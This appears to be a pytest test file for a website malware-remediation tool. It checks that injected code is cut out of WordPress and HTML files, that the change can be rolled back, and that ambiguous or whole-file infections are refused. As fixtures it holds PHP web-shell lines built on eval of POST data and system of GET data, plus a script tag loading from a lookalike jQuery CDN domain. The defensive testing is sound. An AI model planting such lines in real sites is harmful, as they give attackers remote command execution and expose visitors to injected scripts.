"""The clean playbook on real files: cut exactly the injection, or nothing."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from cleanshift.remediation import RemediationContext
from tests.remediation.conftest import (
    BLOG_HEADER,
    INJECTED_FIRST_LINE,
    Run,
    Snapshot,
    give_away,
    threat_for,
    tree_state,
    write,
)

APPENDED = b"@eval(base64_decode($_POST['k']));\n"
PAGE = b"<!doctype html>\n<html><body>\n<p>Welcome</p>\n</body></html>\n"
SCRIPT = b'<script src="https://cdn.jquery-cdn.top/jquery.min.js"></script>\n'
needs_php = pytest.mark.skipif(shutil.which("php") is None, reason="no php binary")


@pytest.mark.parametrize(
    ("name", "clean", "infected"),
    [
        ("wp-blog-header.php", BLOG_HEADER, INJECTED_FIRST_LINE + BLOG_HEADER),
        ("wp-blog-header.php", BLOG_HEADER, BLOG_HEADER + APPENDED),
        (
            "wp-blog-header.php",
            BLOG_HEADER,
            BLOG_HEADER.replace(b"<?php\n", b"<?php @eval($_POST['x']);\n", 1),
        ),
        ("index.html", PAGE, PAGE.replace(b"</body>", SCRIPT + b"</body>")),
        (
            "footer.php",
            b"<?php get_sidebar(); ?>\n<footer>Hi</footer>\n",
            b"<?php get_sidebar(); ?>\n" + SCRIPT + b"<footer>Hi</footer>\n",
        ),
    ],
    ids=["leading-block", "appended-line", "after-open-tag", "html-script", "php-html"],
)
def test_clean_cuts_exactly_the_injection_and_rolls_back(
    site: Path,
    remediate: Run,
    rollback: Run,
    name: str,
    clean: bytes,
    infected: bytes,
) -> None:
    path = write(site, name, infected)
    give_away(path, 0o644)
    before = Snapshot.of(path)

    status, summary = remediate("clean", threat_for(path))

    assert status == "completed", summary
    assert path.read_bytes() == clean
    assert summary["verified"] is True
    after = Snapshot.of(path)
    assert (after.mode, after.uid, after.gid) == (before.mode, before.uid, before.gid)
    assert after.mtime_ns > before.mtime_ns

    status, result = rollback(summary)

    assert status == "completed", result
    assert Snapshot.of(path) == before


@needs_php
def test_php_lint_runs_on_the_result(site: Path, remediate: Run) -> None:
    path = write(site, "wp-blog-header.php", INJECTED_FIRST_LINE + BLOG_HEADER)

    status, summary = remediate("clean", threat_for(path))

    assert status == "completed", summary
    assert {"action": "lint", "detail": "php -l accepts the cleaned file"} in summary[
        "steps"
    ]


def test_lint_failure_refuses_and_changes_nothing(
    site: Path, tmp_path: Path, context: RemediationContext, remediate: Run
) -> None:
    fake_php = write(
        tmp_path, "bin/php", b"#!/bin/sh\necho 'PHP Parse error: nope'\nexit 255\n"
    )
    fake_php.chmod(0o755)
    context.php_binary = str(fake_php)
    path = write(site, "wp-blog-header.php", INJECTED_FIRST_LINE + BLOG_HEADER)
    before = tree_state(site)

    status, summary = remediate("clean", threat_for(path))

    assert status == "failed"
    assert "php -l rejects" in summary["error"]
    assert "Parse error" in summary["error"]
    assert tree_state(site) == before


def test_dry_run_shows_the_cut_and_changes_nothing(site: Path, remediate: Run) -> None:
    path = write(site, "wp-blog-header.php", INJECTED_FIRST_LINE + BLOG_HEADER)
    before = tree_state(site)

    status, summary = remediate("clean", threat_for(path), dry_run=True)

    assert status == "completed", summary
    assert summary["undo"] == {}
    [locate] = [step for step in summary["steps"] if step["action"] == "locate"]
    assert locate["removed"] == [[0, len(INJECTED_FIRST_LINE)]]
    assert tree_state(site) == before


def test_injection_inside_an_expression_is_refused(site: Path, remediate: Run) -> None:
    content = (
        b"<?php\n$handlers = array(\n\t'x' => eval(base64_decode($_POST['k'])),\n);\n"
    )
    path = write(site, "handlers.php", content)

    status, summary = remediate("clean", threat_for(path))

    assert status == "failed"
    assert "nothing was changed" in summary["error"]
    assert path.read_bytes() == content


def test_two_equally_good_cuts_are_refused(site: Path, remediate: Run) -> None:
    # Either line alone silences the rule: the playbook cannot tell which
    # one is the injection.
    content = b"<?php\n$d = 'strrev';\neval($d(';\"olleh\" ohce'));\n"
    path = write(site, "loader.php", content)

    status, summary = remediate("clean", threat_for(path))

    assert status == "failed"
    assert "more than one part could be the injection" in summary["error"]
    assert path.read_bytes() == content


def test_a_malicious_file_as_a_whole_is_not_cleaned(site: Path, remediate: Run) -> None:
    path = write(site, "x.php", b"<?php system($_GET['c']);\n")

    status, summary = remediate("clean", threat_for(path))

    assert status == "failed"
    assert "quarantine it instead" in summary["error"]
    assert path.read_bytes() == b"<?php system($_GET['c']);\n"


def test_rollback_refuses_when_the_file_changed_after_the_fix(
    site: Path, remediate: Run, rollback: Run
) -> None:
    path = write(site, "wp-blog-header.php", INJECTED_FIRST_LINE + BLOG_HEADER)
    _, summary = remediate("clean", threat_for(path))
    path.write_bytes(BLOG_HEADER + b"// updated by the owner\n")

    status, result = rollback(summary)

    assert status == "failed"
    assert "changed after the fix" in result["error"]
    assert path.read_bytes() == BLOG_HEADER + b"// updated by the owner\n"


def test_a_repeated_command_reports_the_first_run(site: Path, remediate: Run) -> None:
    path = write(site, "wp-blog-header.php", INJECTED_FIRST_LINE + BLOG_HEADER)
    threat = threat_for(path)
    _, first = remediate("clean", threat)

    status, again = remediate("clean", threat, rid=first["remediation_id"])

    assert status == "completed", again
    assert again["undo"] == first["undo"]
    assert path.read_bytes() == BLOG_HEADER
